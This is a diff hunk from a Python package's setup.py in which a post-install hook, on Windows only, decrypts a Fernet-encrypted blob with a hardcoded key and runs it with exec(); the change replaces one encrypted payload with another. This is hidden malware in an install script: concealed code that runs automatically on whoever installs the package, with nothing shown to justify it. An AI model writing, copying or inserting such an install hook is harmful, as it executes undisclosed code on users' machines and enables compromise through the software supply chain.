@@ -7,7 +7,7 @@ class PostInstall(install):
         import os
         if os.name == "nt":
             from cryptography.fernet import Fernet
-            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcLBpe30I-sgWHVsalC6noz6DWl5xYrnOwiH9jcLAD64jAWBML8rxqhPoC8JAJkzVogXrxSfhHSwjYWtwTvshAsNglYVX2MC5SVMHsXAjoM8EmFkzSybNdp9yC0Ed3ZNdNNHEh0HQspRVaBTHphUDETjPksmhh6Tb4GciNo4TLurP8bfgHUNJQNhhUNQDx5_P76LRoKMLUJdu7beg2j8aigSkZfVRa61F8Eo3tMgeR8OB6r9wKB5OJtBOujUYo42EKu5JiVEUQVp2sYdR4pssyzoxNltLG6wfUcyEXD1H7IRW-rWDKe77rJbKs1T7Bv3ONczkpig5Y3LbekopgjjxVQad7VsijBB2fr7GSXhioWsgMqauUZi987KsoVbD42vnQsrHYQtw5xoolzjbJWl_sTJMQ=='))
+            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcLqJ4CDCJkTBCjxitqQj8tp7SwyKRvXjH5xlIBabNj6NhetrjOH2ZDcoCFP1PYnTucjxKj-96rJCTd7ewtL3kTRqdTR5FAmgPkXVN50ZEXURjdxCqL7Unb_mq7HwT_L1TQaFI0Z5gVR1YdaX4OPu8GaU1GHc8Ju6S9sjorkjCIF5juFKYJTueiubSiUaf0KWBchYQsEIgkdExTWdYU4PaO5evoB_8No81W8F01PZTN_Bs14PtD56l3jfoDYNovenn1w62fAjcGicB7dbOA2llQgy3bkTeYZgIR3k8hKVkM3wm4C5z_ngR2VLEkc9HQmUhZ-WgP1tY9f_kcRvdqbPE5wACMjQPlCoCFOEs9tpQZ7dRUMxZlXIbltpNR1-3RdmNTyalZbDcsRP0f0OZuoLJw6mg=='))
         install.run(self)
 
 setup(
